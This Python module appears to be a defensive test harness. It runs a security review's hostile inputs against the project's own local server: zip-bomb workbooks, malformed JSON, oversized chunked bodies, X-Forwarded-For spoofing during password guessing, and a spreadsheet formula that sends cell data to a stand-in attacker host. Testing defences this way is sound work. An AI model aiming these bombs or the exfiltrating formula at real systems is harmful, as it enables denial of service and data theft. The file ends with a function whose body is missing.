"""``tenglong bench attacks``: every attack of the hostile-input review, run N times against a real server.

The server is ``tenglong serve`` in a child process, on a free port of 127.0.0.1, with a fresh SQLite demo county in
a temporary folder and ``TENGLONG_BEHIND_TLS=true`` (as in production behind a TLS proxy, so that the HSTS header is
due; the client sends the session cookie itself). Each attack is sent N times, through plain sockets and
``http.client`` (the standard library only); after each run the server must still be running and answer
``GET /login`` with 200. Its peak resident memory (``VmHWM`` of ``/proc/<pid>/status``) is reset before each attack
(``/proc/<pid>/clear_refs``) and read after its runs, so the figure is that attack's own.

Sign-in attacks come from their own loopback addresses (127.0.0.x, one per run and attack) and against their own
accounts, so that one attack's throttle never decides another's answer.

The hostile files are generated here, small on disk (a deflate stream of a repeated piece is compressed once and
repeated), the same shapes as ``tests/adapters/test_sheet_guard.py``.
"""

from __future__ import annotations

import datetime as dt
import http.client
import io
import json
import os
import re
import select
import shutil
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ..settings import DEMO_PASSWORD
from .engine import machine

MB = 1024 * 1024
HOST = "127.0.0.1"

# --- hostile files ---------------------------------------------------------------------------------------------

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
SHEET_HEAD = f'<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="{NS}"><sheetData>'.encode()
SHEET_TAIL = b"</sheetData></worksheet>"
VALUE = '<c r="A1" t="inlineStr"><is><t>a</t></is></c>'


@dataclass(frozen=True)
class Entry:
    """A zip entry: its raw deflate stream, and the CRC and size of what it unpacks to."""

    name: str
    data: bytes
    crc: int
    size: int


def entry(name: str, *pieces: tuple[bytes, int]) -> Entry:
    """An honest entry of each ``(bytes, times)`` in turn, each piece compressed once and its stream repeated (a full
    flush makes each block stand alone), so a part of 600 MB costs 600 KB and one CRC pass of the piece per copy."""
    stream, crc, size = [], 0, 0
    for data, times in pieces:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        stream.append((c.compress(data) + c.flush(zlib.Z_FULL_FLUSH)) * times)
        for _ in range(times):
            crc = zlib.crc32(data, crc)
        size += len(data) * times
    return Entry(name, b"".join(stream) + b"\x03\x00", crc, size)  # 03 00: the final, empty block


def zip_bytes(entries: list[Entry]) -> bytes:
    """A zip of the entries exactly as given."""
    out, central = bytearray(), bytearray()
    for e in entries:
        name = e.name.encode()
        offset = len(out)
        out += struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, e.crc, len(e.data), e.size, len(name), 0)
        out += name + e.data
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, e.crc, len(e.data), e.size, len(name), 0, 0, 0, 0, 0,
            offset,
        )  # fmt: skip
        central += name
    start = len(out)
    out += central
    out += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


def workbook(sheet: Entry, book: Entry | None = None) -> bytes:
    """A one-sheet workbook (sheet 企业数据) around ``sheet`` (and ``book`` as xl/workbook.xml, when given)."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
        f'<Relationship Id="rId1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    )
    sheets = '<sheets><sheet name="企业数据" sheetId="1" r:id="rId1"/></sheets>'
    book_xml = f'<?xml version="1.0"?><workbook xmlns="{NS}" xmlns:r="{REL}">{sheets}</workbook>'
    book_rels = (
        f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
        f'<Relationship Id="rId1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    return zip_bytes(
        [
            entry("[Content_Types].xml", (types.encode(), 1)),
            entry("_rels/.rels", (rels.encode(), 1)),
            book or entry("xl/workbook.xml", (book_xml.encode(), 1)),
            entry("xl/_rels/workbook.xml.rels", (book_rels.encode(), 1)),
            sheet,
        ]
    )


def xfd_workbook() -> bytes:
    """The workbook that aborted the server: a value in A1 and one in XFD1048576 (a 17-billion-cell grid)."""
    rows = f'<row r="1">{VALUE}</row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return workbook(entry(SHEET, (SHEET_HEAD + rows.encode() + SHEET_TAIL, 1)))


def whitespace_sheet_bomb(mb: int = 600) -> bytes:
    """A sheet part that unpacks to ``mb`` MB of spaces (over the 512 MB part limit)."""
    return workbook(entry(SHEET, (SHEET_HEAD, 1), (b" " * MB, mb), (SHEET_TAIL, 1)))


def ratio_bomb(mb: int = 64) -> bytes:
    """A sheet part of ``mb`` MB under every size limit, compressed about 1,000:1 (the limit is 100:1)."""
    return workbook(entry(SHEET, (SHEET_HEAD, 1), (b" " * MB, mb), (SHEET_TAIL, 1)))


def workbook_xml_bomb(mb: int = 600) -> bytes:
    """A valid sheet, and an ``xl/workbook.xml`` that unpacks to ``mb`` MB."""
    sheet = entry(SHEET, (SHEET_HEAD + f'<row r="1">{VALUE}</row>'.encode() + SHEET_TAIL, 1))
    return workbook(sheet, book=entry("xl/workbook.xml", (b" " * MB, mb)))


def million_projects(n: int = 1_000_000) -> bytes:
    """The calculation of the review: ``n`` projects each lacking the inputs 2.10 needs (45.9 MB for a million)."""
    projects = ", ".join(f'"P{k}": {{"tech_renovation_subsidy": null}}' for k in range(n))
    return ('{"as_of": "2023-03-01", "projects": {' + projects + "}}").encode()


# --- a client of the standard library ----------------------------------------------------------------------------


@dataclass
class Answer:
    """A response: status, headers (lower-case names), body."""

    status: int
    headers: dict[str, str]
    body: bytes

    def json(self) -> Any:
        return json.loads(self.body)


@dataclass
class Session:
    """A signed-in session: the cookie and the CSRF token."""

    cookie: str
    csrf: str

    def headers(self) -> dict[str, str]:
        return {"Cookie": f"tl_session={self.cookie}", "X-CSRF-Token": self.csrf}


def request(
    port: int,
    method: str,
    path: str,
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
    session: Session | None = None,
    source: str = HOST,
    timeout: float = 300,
) -> Answer:
    """One request on a new connection from ``source`` (a loopback address); ``body`` sent with its length."""
    conn = http.client.HTTPConnection(HOST, port, timeout=timeout, source_address=(source, 0))
    try:
        conn.request(method, path, body=body, headers={**(headers or {}), **(session.headers() if session else {})})
        r = conn.getresponse()
        return Answer(r.status, {k.lower(): v for k, v in r.getheaders()}, r.read())
    finally:
        conn.close()


def post_json(port: int, path: str, doc: Any, session: Session | None = None, **kw: Any) -> Answer:
    """POST ``doc`` (a document, or bytes sent as they are) as application/json."""
    body = doc if isinstance(doc, bytes) else json.dumps(doc, ensure_ascii=False).encode()
    headers = {"Content-Type": "application/json", **kw.pop("headers", {})}
    return request(port, "POST", path, body, headers, session, **kw)


def post_file(port: int, path: str, name: str, data: bytes, session: Session) -> Answer:
    """POST ``data`` as the form field ``file`` (multipart/form-data)."""
    boundary = "tenglongattack"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode()
    body = head + data + f"\r\n--{boundary}--\r\n".encode()
    return request(port, "POST", path, body, {"Content-Type": f"multipart/form-data; boundary={boundary}"}, session)


def sign_in(port: int, username: str, password: str = DEMO_PASSWORD, source: str = HOST) -> Session:
    """Sign in through ``POST /api/v1/session``; the session cookie is read from Set-Cookie (it is Secure)."""
    r = post_json(port, "/api/v1/session", {"username": username, "password": password}, source=source)
    if r.status != 200:
        raise RuntimeError(f"sign-in of {username} answered {r.status}: {r.body[:200]!r}")
    cookie = re.search(r"tl_session=([^;]+)", r.headers.get("set-cookie", ""))
    if cookie is None:
        raise RuntimeError("the sign-in set no session cookie")
    return Session(cookie[1], r.json()["csrf_token"])


@dataclass
class Streamed:
    """What a chunked upload achieved: the status answered (None: none), the bytes sent before it came."""

    status: int | None
    sent: int
    seconds: float


def post_chunked(port: int, path: str, total: int, fill: bytes = b"x", chunk: int = 64 * 1024) -> Streamed:
    """POST up to ``total`` bytes with ``Transfer-Encoding: chunked``, stopping as soon as the server answers or
    closes; the status line is read from the answer."""
    start = time.perf_counter()
    sock = socket.create_connection((HOST, port), timeout=60)
    piece = (fill * (chunk // len(fill) + 1))[:chunk]
    frame = f"{len(piece):x}\r\n".encode() + piece + b"\r\n"
    sent = 0
    try:
        sock.sendall(
            f"POST {path} HTTP/1.1\r\nHost: {HOST}:{port}\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        while sent < total:
            if select.select([sock], [], [], 0)[0]:  # the server has answered (or closed): stop sending
                break
            try:
                sock.sendall(frame)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(piece)
        else:
            sock.sendall(b"0\r\n\r\n")
        head = b""
        while b"\r\n" not in head:
            data = sock.recv(4096)
            if not data:
                break
            head += data
    except OSError:
        head = b""
    finally:
        sock.close()
    m = re.match(rb"HTTP/1\.[01] (\d{3})", head)
    return Streamed(int(m[1]) if m else None, sent, time.perf_counter() - start)


# --- the server --------------------------------------------------------------------------------------------------


def free_port() -> int:
    """A free TCP port of 127.0.0.1."""
    with socket.socket() as s:
        s.bind((HOST, 0))
        return s.getsockname()[1]


class Server:
    """``tenglong serve`` in a child process on a fresh SQLite demo county in ``folder``."""

    def __init__(self, folder: Path, **settings: str) -> None:
        self.folder = folder
        self.port = free_port()
        env = {
            **os.environ,
            "TENGLONG_DATABASE_URL": f"sqlite:///{folder / 'attacks.db'}",
            "TENGLONG_UPLOAD_DIR": str(folder / "uploads"),
            "TENGLONG_DEMO": "true",
            "TENGLONG_ENVIRONMENT": "development",
            **settings,
        }
        self.log = folder / "server.log"
        with self.log.open("w") as log:
            self.proc = subprocess.Popen(  # our own CLI (S603 is waived for bench/ in pyproject.toml)
                [sys.executable, "-m", "tenglong.cli", "serve", "--host", HOST, "--port", str(self.port)],
                env=env,
                stdout=log,
                stderr=subprocess.STDOUT,
            )
        deadline = time.monotonic() + 300
        while not self.answers():
            if self.proc.poll() is not None:
                raise RuntimeError(f"the server exited with {self.proc.returncode}; see {self.log}")
            if time.monotonic() > deadline:
                self.stop()
                raise RuntimeError(f"the server did not start in 300 s; see {self.log}")
            time.sleep(0.3)

    @property
    def pid(self) -> int:
        return self.proc.pid

    def answers(self) -> bool:
        """Whether ``GET /login`` answers 200."""
        try:
            return request(self.port, "GET", "/login", timeout=30).status == 200
        except OSError:
            return False

    def alive(self) -> bool:
        """Running, and answering ``GET /login`` with 200."""
        return self.proc.poll() is None and self.answers()

    def memory_mb(self, field: str = "VmHWM") -> float:
        """``VmHWM`` (peak) or ``VmRSS`` (now) of the server process, in MB (0 when it is gone)."""
        try:
            text = Path(f"/proc/{self.pid}/status").read_text()
        except OSError:
            return 0.0
        m = re.search(rf"^{field}:\s+(\d+) kB", text, re.MULTILINE)
        return int(m[1]) / 1024 if m else 0.0

    def reset_peak(self) -> bool:
        """Reset ``VmHWM`` to the current RSS (Linux: ``5`` to ``clear_refs``); False where it cannot."""
        try:
            Path(f"/proc/{self.pid}/clear_refs").write_text("5")
        except OSError:
            return False
        return True

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


# --- the attacks -------------------------------------------------------------------------------------------------


@dataclass
class World:
    """The server, the signed-in sessions and what the attacks share."""

    server: Server
    admin: Session
    enterprise: Session
    addresses: Iterator[str]
    files: dict[str, bytes] = field(default_factory=dict)

    @property
    def port(self) -> int:
        return self.server.port

    def address(self) -> str:
        """A loopback address no attack used before."""
        return next(self.addresses)

    def account(self, name: str, display_name: str | None = None) -> str:
        """A new department account named ``name`` (a victim for the sign-in attacks); its password the demo one."""
        body = {"username": name, "display_name": display_name or name, "password": DEMO_PASSWORD, "role": "department"}
        r = post_json(self.port, "/api/v1/admin/users", {**body, "department": "攻击测试"}, self.admin)
        if r.status != 201:
            raise RuntimeError(f"could not create {name}: {r.status} {r.body[:200]!r}")
        return name

    def wait_import(self, import_id: int, timeout: float = 120) -> dict[str, Any]:
        """The import once it is no longer being validated."""
        deadline = time.monotonic() + timeout
        while True:
            body = request(self.port, "GET", f"/api/v1/imports/{import_id}", session=self.admin).json()
            if body["status"] not in ("validating", "committing") or time.monotonic() > deadline:
                return body
            time.sleep(0.2)


@dataclass
class Run:
    """One run of an attack: what it answered (a short text), whether the defence held, a detail."""

    answered: str
    held: bool
    detail: str = ""


@dataclass(frozen=True)
class Attack:
    """An attack of the review: its number, what it is, what should hold, and one run of it."""

    number: str
    name: str
    defence: str
    run: Callable[[World, int], Run]


def _code(answer: Answer) -> str:
    try:
        body = answer.json()
    except ValueError:
        return ""
    if isinstance(body, dict) and body.get("problems"):
        return body["problems"][0].get("code", "")
    return body.get("code", "") if isinstance(body, dict) else ""


def _bomb(key: str, status: int, code: str) -> Callable[[World, int], Run]:
    def run(w: World, k: int) -> Run:
        data = w.files[key]
        r = post_file(w.port, "/calculator/batch", "bomb.xlsx", data, w.enterprise)
        up = post_file(w.port, "/api/v1/imports", "bomb.xlsx", data, w.admin)
        report = w.wait_import(up.json()["id"]) if up.status == 202 else {}
        refused = report.get("status") == "invalid" and list(report.get("counts_by_code", {})) == [code]
        return Run(
            f"{r.status} {_code(r)}; import {up.status} → {report.get('status')}",
            r.status == status and _code(r) == code and refused,
            f"{len(data):,} bytes",
        )

    return run


def _chunked_session(w: World, k: int) -> Run:
    s = post_chunked(w.port, "/api/v1/session", 300 * MB)
    # What was sent includes what the kernel's socket buffers took (a few MB on loopback) before the answer was seen.
    return Run(str(s.status), s.status == 413 and s.sent < 16 * MB, f"{s.sent / MB:.1f} MB sent of 300 MB")


def _million(w: World, k: int) -> Run:
    body = w.files["million"]
    r = post_json(w.port, "/api/v1/calculate", body, w.enterprise)
    return Run(f"{r.status} {_code(r)}", r.status == 413, f"{len(body) / MB:.1f} MB")


def _entity_cap(w: World, k: int) -> Run:
    body = '{"as_of": "2023-03-01", "projects": {' + ", ".join(f'"P{i}": {{}}' for i in range(200_001)) + "}}"
    r = post_json(w.port, "/api/v1/calculate", body.encode(), w.enterprise)
    return Run(
        f"{r.status} {_code(r)}", r.status == 422 and _code(r) == "too_many_entities", f"{len(body) / MB:.1f} MB"
    )


def _long_names(w: World, k: int) -> Run:
    name = "名" * (MB // 3)  # 1 MB of UTF-8
    login = post_json(w.port, "/api/v1/session", {"username": name, "password": "x"}, source=w.address())
    new = {"username": f"u{k}", "display_name": name, "password": DEMO_PASSWORD, "role": "department"}
    create = post_json(w.port, "/api/v1/admin/users", {**new, "department": "x"}, w.admin)
    held = login.status == 422 and create.status == 422
    return Run(f"sign-in {login.status}, new account {create.status}", held, "1 MB of 名 as the name")


FORMULA = '=HYPERLINK("http://attacker.invalid/?x="&A1,"点击")'


def _inert_xlsx(data: bytes) -> bool:
    """No formula in any sheet, no text cell starting with = + - @, and the payload kept as text behind an '."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        parts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/") and n.endswith(".xml")]
    sheets = "".join(p for p in parts if "<worksheet" in p)
    text = "".join(parts)
    return not re.search(r"<f[ >]", sheets) and not re.search(r"<t(?: [^>]*)?>[=+@-]", text) and "'=HYPERLINK" in text


def _inert_csv(data: bytes) -> bool:
    """No field starting with =HYPERLINK; the payload kept as text behind an '."""
    text = data.decode("utf-8-sig")
    return "'=HYPERLINK" in text and not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)


def _formula(w: World, k: int) -> Run:
    name = w.account(f"formula-{k}", display_name=FORMULA)
    user = sign_in(w.port, name, source=w.address())
    export = request(w.port, "GET", "/api/v1/enterprises/export.xlsx", session=user)  # an audited act of the user
    query = f"/api/v1/audit/export.{{}}?actor={name}"
    xlsx = request(w.port, "GET", query.format("xlsx"), session=w.admin)
    csv = request(w.port, "GET", query.format("csv"), session=w.admin)
    cell = '"' + FORMULA.replace('"', '""') + '"'
    upload = post_file(
        w.port, "/api/v1/imports", "formula.csv", f"统一社会信用代码,年度\n{cell},2023\n".encode(), w.admin
    )
    w.wait_import(upload.json()["id"])
    report = request(w.port, "GET", f"/api/v1/imports/{upload.json()['id']}/report.xlsx", session=w.admin)
    statuses = (export.status, xlsx.status, csv.status, upload.status, report.status)
    inert = _inert_xlsx(xlsx.body) and _inert_csv(csv.body) and _inert_xlsx(report.body)
    return Run(
        "audit log xlsx {1}, csv {2}; import {3}, report {4}".format(*statuses),
        statuses == (200, 200, 200, 202, 200) and inert,
        "the payload as a display name and as an imported cell",
    )


def _xff_account(w: World, k: int) -> Run:
    victim = w.account(f"xff-victim-{k}")
    source = w.address()
    statuses = []
    for i in range(8):
        forwarded = {"X-Forwarded-For": f"203.0.113.{i + 1}"}
        doc = {"username": victim, "password": f"wrong-{i}"}
        r = post_json(w.port, "/api/v1/session", doc, headers=forwarded, source=source)
        statuses.append(r.status)
    return Run(_runs(statuses), statuses == [401] * 5 + [429] * 3, "8 wrong passwords, each from a new X-Forwarded-For")


def _xff_address(w: World, k: int) -> Run:
    source = w.address()
    statuses = []
    for i in range(23):
        forwarded = {"X-Forwarded-For": f"198.51.100.{i + 1}"}
        doc = {"username": f"nobody-{k}-{i}", "password": "wrong"}
        statuses.append(post_json(w.port, "/api/v1/session", doc, headers=forwarded, source=source).status)
    return Run(_runs(statuses), statuses == [401] * 20 + [429] * 3, "23 user names, each from a new X-Forwarded-For")


def _timing(w: World, k: int) -> Run:
    source = w.address()
    victims = [w.account(f"timing-{k}-{i}") for i in range(4)]
    known, unknown = [], []
    for i in range(8):  # 16 failures from one address: under its 20; 2 per account: under 5
        for name, times in ((victims[i % 4], known), (f"ghost-{k}-{i}", unknown)):
            start = time.perf_counter()
            r = post_json(w.port, "/api/v1/session", {"username": name, "password": "wrong"}, source=source)
            times.append((time.perf_counter() - start) * 1000)
            if r.status != 401:
                return Run(str(r.status), False, "a sign-in was not refused with 401")
    a, b = statistics.median(known), statistics.median(unknown)
    return Run("401 ×16", 0.5 < b / a < 2, f"median {a:.0f} ms known vs {b:.0f} ms unknown user")


CRASHES = {
    # number: (name, body, path, expected status, expected problem code)
    "3a": ("not UTF-8", b'{"as_of": "2023-03-01", "projects": {"P\xff": {}}}', "/api/v1/calculate", 400, "not_utf8"),
    "3b": ("NaN", b'{"as_of": "2023-03-01", "projects": {"P1": {"total_investment": NaN}}}', "/api/v1/calculate",
           400, "not_a_number"),
    "3c": ("-Infinity", b'{"as_of": "2023-03-01", "projects": {"P1": {"land_area": -Infinity}}}', "/api/v1/calculate",
           400, "not_a_number"),
    "3d": ("1e999999", b'{"as_of": "2023-03-01", "projects": {"P1": {"total_investment": 1e999999}}}',
           "/api/v1/calculate", 422, "number_too_long"),
    "3e": ("a 5,000-digit integer", b'{"as_of": "2023-03-01", "projects": {"P1": {"total_investment": '
           + b"9" * 5000 + b"}}}", "/api/v1/calculate", 422, "number_too_long"),
    "3f": ("nesting 100,000 deep", b'{"as_of": "2023-03-01", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
           "/api/v1/calculate", 422, "too_deep"),
    "3g": ("a lone surrogate as an id", b'{"as_of": "2023-03-01", "projects": {"\\ud800": {}}}', "/api/v1/calculate",
           422, "lone_surrogate"),
    "3h": ("id 2^63 in a path", b"", "/api/v1/projects/9223372036854775808", 422, "invalid_request"),
    "3i": ("a number for a text field", b'{"project_id": "x", "clause": "2.10"}', "/api/v1/applications", 422,
           "wrong_type"),
}  # fmt: skip
"""The inputs that crashed the platform (attack 3): each with the route it is sent to and what it must answer."""


def _crash(number: str) -> Callable[[World, int], Run]:
    _, body, path, status, code = CRASHES[number]

    def run(w: World, k: int) -> Run:
        if path.startswith("/api/v1/projects/"):
            r = request(w.port, "GET", path, session=w.enterprise)
        else:
            r = post_json(w.port, path, body, w.enterprise)
        return Run(f"{r.status} {_code(r)}", r.status == status and _code(r) == code)

    return run


def _duplicate_keys(w: World, k: int) -> Run:
    body = b'{"as_of": "2023-03-01", "projects": {"P1": {"total_investment": 1}, "P1": {"total_investment": 2}}}'
    calc = post_json(w.port, "/api/v1/calculate", body, w.enterprise)
    login = post_json(w.port, "/api/v1/session", b'{"username": "enterprise", "username": "admin", "password": "x"}')
    held = (calc.status, _code(calc), login.status, _code(login)) == (422, "duplicate_key", 422, "duplicate_key")
    return Run(f"calculate {calc.status}, sign-in {login.status} {_code(login)}", held)


CSP = "default-src 'self'; script-src 'self'; style-src 'self'"


def _headers(w: World, k: int) -> Run:
    page = request(w.port, "GET", "/login")
    api = request(w.port, "GET", "/api/v1/session")
    docs = request(w.port, "GET", "/api/v1/docs", session=w.admin)
    static = re.search(rb'src="(/static/[^"]+)"', docs.body)
    asset = request(w.port, "GET", static[1].decode()) if static else None
    checks = {
        "CSP": all(a.headers.get("content-security-policy", "").startswith(CSP) for a in (page, api, docs)),
        "HSTS": all("max-age=31536000" in a.headers.get("strict-transport-security", "") for a in (page, api, docs)),
        "no-store": all(a.headers.get("cache-control") == "no-store" for a in (page, api, docs)),
        "static cacheable": asset is not None and asset.status == 200 and "no-store" not in asset.headers.get(
            "cache-control", ""),
        "no CDN": docs.status == 200 and not re.search(rb'<(script|link)[^>]+(src|href)="(https?:)?//', docs.body),
    }  # fmt: skip
    missing = [name for name, ok in checks.items() if not ok]
    return Run(f"{page.status}/{api.status}/{docs.status}", not missing, ", ".join(missing) or "all present")


def _audit_count(w: World, action: str) -> int:
    return request(w.port, "GET", f"/api/v1/audit?action={action}", session=w.admin).json()["total"]


def _audited(w: World, k: int) -> Run:
    exports, refusals = _audit_count(w, "export."), _audit_count(w, "request.refused")
    export = request(w.port, "GET", "/api/v1/enterprises/export.xlsx", session=w.enterprise)
    refused = post_json(w.port, "/api/v1/evaluations", {"year": 2023}, w.enterprise)
    added = (_audit_count(w, "export.") - exports, _audit_count(w, "request.refused") - refusals)
    return Run(
        f"export {export.status}, refused write {refused.status}",
        export.status == 200 and refused.status == 403 and added == (1, 1),
        f"audit log +{added[0]} export, +{added[1]} refusal",
    )


ATTACKS = [
    Attack("1", "the 1,651-byte workbook: a value in A1 and one in XFD1048576", "the guard reads the cell extent "
           "before any parse: 413 too_many_rows; the import stores it and reports it invalid",
           _bomb("xfd", 413, "too_many_rows")),
    Attack("2a", "decompression bomb: a sheet part of 600 MB of spaces (0.6 MB file)", "the zip's directory is "
           "checked first: 413 part_too_large (limit 512 MB), nothing inflated", _bomb("whitespace", 413,
           "part_too_large")),
    Attack("2b", "decompression bomb: 64 MB at 1,000:1", "422 compression_ratio (limit 100:1)",
           _bomb("ratio", 422, "compression_ratio")),
    Attack("2c", "decompression bomb: an xl/workbook.xml of 600 MB", "413 part_too_large, whatever the part",
           _bomb("workbook.xml", 413, "part_too_large")),
    Attack("4", "a chunked body of 300 MB to POST /api/v1/session", "bodies are counted as they arrive: 413 once "
           "past 1 MB + 64 KB, the rest never read", _chunked_session),
    Attack("5", "a calculation of 1,000,000 projects (45.9 MB) to POST /api/v1/calculate", "413 from its "
           "Content-Length (limit 20 MB), before reading", _million),
    Attack("5b", "200,001 projects under the size limit", "422 too_many_entities before any entity is read",
           _entity_cap),
    Attack("6", "1 MB user names (sign-in, and a new account's name)", "length limits at the edge: 422 before "
           "anything is stored (CHECK constraints behind them)", _long_names),
    Attack("7", "formula injection in exports: =HYPERLINK(…) as a display name (audit log XLSX and CSV) and as a "
           "cell of an uploaded file (the import's report)", "one workbook writer: every text is a text cell, a "
           "leading = + - @ gets an apostrophe; CSV the same", _formula),
    Attack("8a", "X-Forwarded-For rotated on every wrong password for one account", "the header is believed only "
           "from TENGLONG_TRUSTED_PROXIES (none): 5 failures lock the account", _xff_account),
    Attack("8b", "X-Forwarded-For and user name rotated from one address", "20 failures lock the address, "
           "whatever the names", _xff_address),
    Attack("9", "login timing: unknown user against known user with a wrong password", "an unknown user costs one "
           "argon2 verification too", _timing),
    *[
        Attack(number, f"crash input: {name}", f"the strict reader or the range check: {status} {code}",
               _crash(number))
        for number, (name, _, _, status, code) in CRASHES.items()
    ],
    Attack("10", "duplicate keys (the calculation, the sign-in)", "refused by name: 422 duplicate_key",
           _duplicate_keys),
    Attack("11", "missing CSP, HSTS, no-store; Swagger UI from a CDN", "CSP and no-store on every answer, HSTS "
           "behind TLS, /static cacheable, Swagger UI vendored", _headers),
    Attack("12", "unaudited exports and refusals", "each bulk export and refused write is an audit event",
           _audited),
]  # fmt: skip


@dataclass
class Outcome:
    """An attack's N runs: the answers, whether every run held, the server's peak memory and liveness."""

    attack: Attack
    runs: list[Run]
    peak_mb: float
    up: bool
    seconds: float

    @property
    def held(self) -> bool:
        return all(r.held for r in self.runs) and self.up


def _runs(statuses: list[int]) -> str:
    """``401 ×5, 429 ×3`` for a sequence of statuses (in order)."""
    parts: list[tuple[int, int]] = []
    for s in statuses:
        if parts and parts[-1][0] == s:
            parts[-1] = (s, parts[-1][1] + 1)
        else:
            parts.append((s, 1))
    return ", ".join(f"{s} ×{n}" for s, n in parts)


def run_attacks(runs: int, only: str | None, outcomes: list[Outcome], info: dict[str, Any]) -> Iterator[str]:
    """Start a server and run every attack (or those whose number starts with ``only``) ``runs`` times, appending
    each outcome to ``outcomes`` and facts about the server to ``info``; yields a line of progress per attack."""
    folder = Path(tempfile.mkdtemp(prefix="tenglong-attacks-"))
    yield f"starting tenglong serve on a fresh demo county in {folder} …"
    started = time.perf_counter()
    server = Server(folder, TENGLONG_BEHIND_TLS="true")
    info.update(start_seconds=time.perf_counter() - started, rss_start_mb=server.memory_mb("VmRSS"))
    try:
        addresses = (f"127.0.{a}.{b}" for a in range(1, 255) for b in range(2, 255))
        world = World(server, sign_in(server.port, "admin"), sign_in(server.port, "enterprise"), addresses)
        world.files = {
            "xfd": xfd_workbook(),
            "whitespace": whitespace_sheet_bomb(),
            "ratio": ratio_bomb(),
            "workbook.xml": workbook_xml_bomb(),
            "million": million_projects(),
        }
        yield f"server pid {server.pid} on port {server.port}, {info['rss_start_mb']:.0f} MB resident"
        for attack in ATTACKS:
            if only and not attack.number.startswith(only):
                continue
            server.reset_peak()
            start = time.perf_counter()
            results, up = [], True
            for k in range(runs):
                try:
                    results.append(attack.run(world, k))
                except Exception as exc:  # the attack's own failure (the server gone, an answer not understood)
                    results.append(Run(f"{type(exc).__name__}: {exc}"[:120], False))
                up = up and server.alive()
            outcome = Outcome(attack, results, server.memory_mb("VmHWM"), up, time.perf_counter() - start)
            outcomes.append(outcome)
            verdict = "held" if outcome.held else "FAILED"
            yield f"{attack.number:>3} {verdict:<6} {attack.name} ({outcome.seconds:.1f} s, {outcome.peak_mb:,.0f} MB)"
            if server.proc.poll() is not None:
                yield f"the server exited with {server.proc.returncode}; see {server.log}"
                break
        info["rss_end_mb"] = server.memory_mb("VmRSS")
    finally:
        server.stop()
        shutil.rmtree(folder, ignore_errors=True)


def markdown(outcomes: list[Outcome], info: dict[str, Any], runs: int, command: str) -> str:
    """The reliability table, with when, where and how it was made."""
    today = dt.date.today().isoformat()
    lines = [
        "# Reliability: the hostile input tried, and what held",
        "",
        f"Generated by `{command}` on {today}, on {machine()} (load average "
        f"{', '.join(f'{x:.1f}' for x in os.getloadavg())} at the end). Regenerate it with the same command.",
        "",
        'Each attack of the issue "Hold against hostile input" was sent to a real server: `tenglong serve` in a child '
        "process on 127.0.0.1, on a fresh SQLite demo county in a temporary folder, with `TENGLONG_BEHIND_TLS=true` "
        f"as behind a TLS proxy (started in {info['start_seconds']:.0f} s, {info['rss_start_mb']:.0f} MB resident "
        f"after start, {info['rss_end_mb']:.0f} MB after the last attack). *Tried*: how many times it was sent; "
        "*answered*: the statuses (and error codes) of the last run, all runs alike unless the column says "
        "otherwise; *server peak*: the highest resident memory of the server process (`VmHWM` of "
        "`/proc/<pid>/status`) during the attack's runs, reset before each attack; *up*: the process was running "
        "and answered `GET /login` with 200 after every run; *held*: every run got the answer the defence promises.",
        "",
        "| # | attack | tried | answered | server peak | up | held | what held |",
        "|---|---|---|---|---|---|---|---|",
    ]
    for o in outcomes:
        answers = Counter(r.answered for r in o.runs)
        answered = "; ".join(a if n == len(o.runs) else f"{a} (×{n})" for a, n in answers.items())
        details = sorted({r.detail for r in o.runs if r.detail})
        detail = f" ({'; '.join(details)})" if details else ""
        lines.append(
            f"| {o.attack.number} | {o.attack.name} | {len(o.runs)} | {_cell(answered)} | {o.peak_mb:,.0f} MB | "
            f"{'yes' if o.up else '**no**'} | {'yes' if o.held else '**no**'} | {_cell(o.attack.defence + detail)} |"
        )
    held = sum(o.held for o in outcomes)
    lines += ["", f"{held} of {len(outcomes)} attacks held in all {runs} runs; the server stayed up throughout: "
              f"{'yes' if all(o.up for o in outcomes) else 'no'}.", ""]  # fmt: skip
    return "\n".join(lines)


def _cell(text: str) -> str:
    return text.replace("|", "\\|").replace("\n", " ")


def attacks_benchmark(runs: int = 3, out: str | None = None, only: str | None = None) -> Iterator[str]:
    """Run the attacks, yielding a line of progress per attack, then the table (written to ``out`` when given)."""
